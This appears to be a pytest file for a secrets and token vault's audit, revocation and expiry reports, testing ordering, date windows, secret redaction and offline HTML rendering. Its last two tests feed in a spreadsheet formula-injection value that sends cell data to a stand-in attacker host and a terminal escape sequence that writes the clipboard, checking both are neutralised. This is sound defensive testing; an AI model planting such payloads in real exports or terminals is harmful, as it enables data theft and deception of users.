"""Reports on a scripted history with a known clock: who did what (reads of secrets and tokens
included), what was revoked or retired and until when its tokens stay valid, what expires when.
CSV and JSON parse; the HTML pages render in headless Chromium without a console error."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from domain.secret_value import SecretValue
from tests.conftest import Harness, add_sandbox_client
from tests.consent import SANDBOX_MAILBOX as MAILBOX
from tests.consent import sandbox_consent as consent
from tests.support import Clock, Sleeps
from vault.audit import actor_name, os_actor

SECOND = "dave@contoso.com"
DAY = {n: datetime(2026, 3, n, 9, 0, tzinfo=UTC) for n in range(1, 10)}


def _history(h: Harness, server) -> None:
    """Day 1 the client; day 2 two consents; day 3 reveals and a refresh; day 4 a rotated
    secret; day 5 a grant revoked and a second client removed."""
    add_sandbox_client(h, server)  # today: outside every --since/--until window below
    clock = Clock(DAY[1], tick=timedelta(seconds=1))
    with h.app(clock=clock) as app:
        app.clients.add_client(
            name="legacy", provider="microsoft", client_id="99999999-8888-7777-6666-555555555555",
            tenant="contoso.onmicrosoft.com", secret=SecretValue("Old~secret.value"),
            secret_expires=date(2026, 4, 1))
    clock.at = DAY[2]
    consent(h, server, clock=clock)
    consent(h, server, clock=clock, mailbox=SECOND)
    clock.at = DAY[3]
    with h.app(clock=clock, sleep=Sleeps()) as app:
        assert app.tokens.access_token(MAILBOX).token.reveal().startswith("sbx-at.")
        app.clients.show_client("demo", reveal_secret=True)
        app.tokens.refresh(SECOND)
        clock.at = DAY[4]
        app.clients.rotate_secret("legacy", secret=SecretValue("New~secret.value"), overlap=True)
        ref = app.clients.show_client("legacy").secrets[0].ref
        app.clients.retire_secret("legacy", ref, reason="leaked in a ticket")
        clock.at = DAY[5]
        app.grants.revoke(SECOND, reason="mailbox decommissioned")
        app.clients.remove_client("legacy", reason="integration retired")


@pytest.fixture
def history(sqlite_vault: Harness, sandbox) -> Harness:
    _history(sqlite_vault, sandbox)
    return sqlite_vault


def _rows(h: Harness, *args: str) -> list[dict]:
    return json.loads(h.ok("report", *args, "--format", "json").out)


def test_the_audit_report_shows_who_did_what_reads_included(history: Harness) -> None:
    rows = _rows(history, "audit", "--since", "2026-03-01", "--until", "2026-03-05")
    actions = [(r["at"][:10], r["action"], r["mailbox"] or r["client"], r["outcome"])
               for r in rows if not r["action"].startswith(("client show", "grant show"))]
    assert actions == [
        ("2026-03-01", "client add", "legacy", "ok"),
        ("2026-03-02", "consent", MAILBOX, "ok"),
        ("2026-03-02", "consent", SECOND, "ok"),
        # a refresh commits twice (started, then tokens issued): each is audited
        ("2026-03-03", "token", MAILBOX, "ok"),
        ("2026-03-03", "token", MAILBOX, "ok"),
        ("2026-03-03", "refresh", SECOND, "ok"),
        ("2026-03-03", "refresh", SECOND, "ok"),
        ("2026-03-04", "client rotate-secret", "legacy", "ok"),
        ("2026-03-04", "client retire-secret", "legacy", "ok"),
        ("2026-03-05", "grant revoke", SECOND, "ok"),
        ("2026-03-05", "client remove", "legacy", "ok"),
    ]
    reveals = {(r["action"], r["revealed"]) for r in rows if r["revealed"]}
    assert reveals == {("token", "access_token"),
                       ("client show --reveal-secret", "client_secret")}
    assert all(r["user"] and r["host"] for r in rows)
    assert len(rows) == rows[-1]["seq"] - rows[0]["seq"] + 1  # a contiguous slice of the log

    only_day_3 = _rows(history, "audit", "--since", "2026-03-03", "--until", "2026-03-03")
    assert {r["at"][:10] for r in only_day_3} == {"2026-03-03"} and len(only_day_3) == 5
    steps = [r["detail"].split("step=")[-1] for r in only_day_3 if r["action"] == "refresh"]
    assert steps == ["refresh started", "tokens issued"]
    legacy = _rows(history, "audit", "--client", "LEGACY")
    assert [r["action"] for r in legacy] == ["client add", "client rotate-secret", "client show",
                                             "client retire-secret", "client remove"]
    dave = _rows(history, "audit", "--mailbox", SECOND)
    assert [r["action"] for r in dave] == ["consent", "refresh", "refresh", "grant revoke"]


def test_the_revocation_report_says_when_by_whom_why_and_until_when(history: Harness) -> None:
    rows = _rows(history, "revocations")
    summary = [(r["at"][:10], r["kind"], r["what"], r["client"], r["mailbox"], r["reason"])
               for r in rows]
    retired = ("secret s1 retired; the provider accepts it until 2026-04-01 unless it is "
               "deleted there")  # retiring it in vault does not delete it in the registration
    assert summary == [
        ("2026-03-04", "credential", retired, "legacy", None, "leaked in a ticket"),
        ("2026-03-05", "grant", "grant revoked", "demo", SECOND, "mailbox decommissioned"),
        ("2026-03-05", "credential", "client removed", "legacy", None, "integration retired"),
    ]
    assert {r["by"] for r in rows} == {actor_name(os_actor())}
    # dave's last access token came from the refresh on day 3 and lives an hour after it:
    # revoking the consent on day 5 did not end it early, and the report says when it ended.
    grant = rows[1]
    until = datetime.fromisoformat(grant["access_valid_until"])
    assert DAY[3] < until <= DAY[3] + timedelta(hours=1, minutes=1)
    assert rows[0]["access_valid_until"] is None


def test_purged_subjects_keep_their_row_and_a_removed_client_its_tokens_end(
        history: Harness) -> None:
    """A purge shreds the grant's and the client's events; the revocation report still says
    when, by whom and why, from the purge's audit entry."""
    history.ok("grant", "revoke", SECOND, "--reason", "gdpr erasure", "--purge")  # revoked day 5
    history.ok("grant", "revoke", MAILBOX, "--reason", "left the company", "--purge")
    removed = _rows(history, "revocations")
    history.ok("client", "remove", "demo", "--reason", "moved to the new tenant")
    (demo,) = [r for r in _rows(history, "revocations") if r["client"] == "demo"
               and r["kind"] == "credential"]
    # its grants are purged: their purge entries still say when their access tokens end
    ends = sorted(r["access_valid_until"] for r in removed if r["client"] == "demo")
    assert demo["what"] == "client removed" and demo["access_valid_until"] == ends[-1]
    history.ok("client", "remove", "demo", "--reason", "shred it", "--purge")
    rows = _rows(history, "revocations")
    today = datetime.now(UTC).date().isoformat()
    by = actor_name(os_actor())
    summary = [(r["kind"], r["what"], r["client"], r["mailbox"], r["by"], r["reason"])
               for r in rows if r["client"] == "demo"]
    assert summary == [
        ("grant", f"grant revoked, purged {today}", "demo", SECOND, by, "mailbox decommissioned"),
        ("grant", f"grant revoked, purged {today}", "demo", MAILBOX, by, "left the company"),
        ("credential", f"client removed, purged {today}", "demo", None, by,
         "moved to the new tenant"),
    ]
    dave, alice, _ = (r for r in rows if r["client"] == "demo")
    assert dave["at"][:10] == "2026-03-05"  # when it was revoked, not when it was purged
    assert DAY[3] < datetime.fromisoformat(dave["access_valid_until"]) <= DAY[3] + timedelta(
        hours=1, minutes=1)
    # the same figure as before the purge; alice's token was fetched on day 3 as well
    assert dave["access_valid_until"] == next(r for r in removed if r["mailbox"] == SECOND)[
        "access_valid_until"]
    assert alice["access_valid_until"][:10] == "2026-03-03"
    assert rows[-1]["access_valid_until"] == ends[-1]  # the purged client's row too
    assert len(rows) == 5 and [r["at"] for r in rows] == sorted(r["at"] for r in rows)


def test_a_removed_clients_row_says_until_when_its_grants_tokens_live(
        sqlite_vault: Harness, sandbox) -> None:
    add_sandbox_client(sqlite_vault, sandbox)
    consent(sqlite_vault, sandbox)
    token = json.loads(sqlite_vault.ok("token", MAILBOX, "--format", "json").out)
    sqlite_vault.ok("grant", "revoke", MAILBOX, "--reason", "gone")
    sqlite_vault.ok("client", "remove", "demo", "--reason", "retired")
    (client,) = [r for r in _rows(sqlite_vault, "revocations") if r["kind"] == "credential"]
    assert client["access_valid_until"] == token["expires_at"]


def test_csv_parses_to_the_same_rows_as_json(history: Harness) -> None:
    for report in ("audit", "revocations"):
        as_json = _rows(history, report)
        parsed = list(csv.DictReader(io.StringIO(
            history.ok("report", report, "--format", "csv").out)))
        if report == "audit":  # running the JSON report was itself audited
            assert parsed.pop()["action"] == "report audit"
        assert len(parsed) == len(as_json) > 0
        for got, want in zip(parsed, as_json, strict=True):
            assert got == {k: "" if want[k] is None else str(want[k]) for k in got}


def test_a_date_covers_its_whole_utc_day_and_a_date_time_is_exact(history: Harness) -> None:
    day_3 = _rows(history, "audit", "--since", "2026-03-03", "--until", "2026-03-03")
    assert len(day_3) == 5
    # the entries of day 3 were written from 09:00:01 on
    assert _rows(history, "audit", "--since", "2026-03-03",
                 "--until", "2026-03-03T09:00:00Z") == []
    later = _rows(history, "audit", "--since", day_3[2]["at"], "--until", "2026-03-03")
    assert later == day_3[2:]
    # what was asked for is audited with the report, so a narrow query and a full export differ
    (entry,) = [e for e in json.loads(history.ok("audit", "log", "--json").out)
                if e["action"] == "report audit"][-1:]
    assert entry["detail"]["since"] == day_3[2]["at"] and "client" not in entry["detail"]
    assert entry["detail"]["until"] == "2026-03-04T00:00:00+00:00"


def test_an_empty_report_and_a_bad_window_are_clear(history: Harness) -> None:
    assert _rows(history, "audit", "--since", "2030-01-01") == []
    assert "nothing to report" in history.ok("report", "audit", "--since", "2030-01-01").out
    bad = history.run("report", "audit", "--since", "2026-03-05", "--until", "2026-03-01")
    assert bad.code == 2 and "--until is before --since" in bad.err
    assert "Traceback" not in bad.text


def test_no_report_carries_a_secret(history: Harness) -> None:
    texts = [history.ok("report", r, "--format", f).out
             for r in ("audit", "revocations") for f in ("json", "csv", "html", "table")]
    texts.append(history.ok("report", "expiry", "--format", "html").out)
    for secret in ("Old~secret.value", "New~secret.value", "sbx-at.", "sbx-rt."):
        assert not any(secret in t for t in texts), secret


def _render(chromium: str, page: Path, screenshot: Path) -> list[str]:
    """Open the page in headless Chromium with the network cut off; return console errors."""
    from playwright.sync_api import sync_playwright

    errors: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        try:
            context = browser.new_context()
            requests: list[str] = []
            context.on("request", lambda r: requests.append(r.url))
            tab = context.new_page()
            tab.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            tab.on("pageerror", lambda e: errors.append(str(e)))
            tab.goto(page.as_uri())
            tab.screenshot(path=str(screenshot), full_page=True)
            body = tab.inner_text("body")
            circles = tab.locator("svg circle").count()
        finally:
            browser.close()
    assert [r for r in requests if not r.startswith("file:")] == []  # self-contained
    return [*errors, f"circles={circles}", body]


def test_html_reports_render_in_chromium(history: Harness, chromium: str,
                                         tmp_path: Path) -> None:
    expiry = tmp_path / "expiry.html"
    history.ok("report", "expiry", "--format", "html", "--as-of", "2026-03-10",
               "--output", str(expiry))
    *errors, circles, body = _render(chromium, expiry, tmp_path / "expiry.png")
    assert errors == []
    assert (tmp_path / "expiry.png").stat().st_size > 5_000
    assert "What expires when" in body and "Findings" in body
    timeline = json.loads(history.ok("report", "expiry", "--format", "json",
                                     "--as-of", "2026-03-10").out)
    assert circles == f"circles={len(timeline['items'])}" and timeline["items"]

    audit = tmp_path / "audit.html"
    history.ok("report", "audit", "--format", "html", "--output", str(audit))
    *errors, _, body = _render(chromium, audit, tmp_path / "audit.png")
    assert errors == []
    assert "client retire-secret" in body and MAILBOX in body


def test_free_text_never_becomes_a_spreadsheet_formula(sqlite_vault: Harness) -> None:
    from tests.conftest import add_client, import_grant

    add_client(sqlite_vault)
    import_grant(sqlite_vault)
    sqlite_vault.ok("grant", "revoke", "help@contoso.com", "--reason",
                    '=HYPERLINK("http://evil.example/?"&A1,"click")')
    (row,) = list(csv.DictReader(io.StringIO(
        sqlite_vault.ok("report", "revocations", "--format", "csv").out)))
    assert row["reason"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_free_text_never_drives_the_terminal(sqlite_vault: Harness) -> None:
    """A reason with ESC sequences (erase the line above, OSC 52 clipboard) is shown, not obeyed."""
    from tests.conftest import add_client, import_grant

    add_client(sqlite_vault)
    import_grant(sqlite_vault)
    sqlite_vault.ok("grant", "revoke", "help@contoso.com", "--reason",
                    "gone\x1b[1A\x1b[2K\x1b]52;c;ZXZpbA==\x07")
    for args in (("report", "revocations"), ("grant", "show", "help@contoso.com"),
                 ("report", "audit", "--mailbox", "help@contoso.com")):
        out = sqlite_vault.ok(*args).out
        assert "\x1b" not in out and "\x07" not in out, args
    assert "gone\\x1b[1A\\x1b[2K" in sqlite_vault.ok("report", "revocations").out
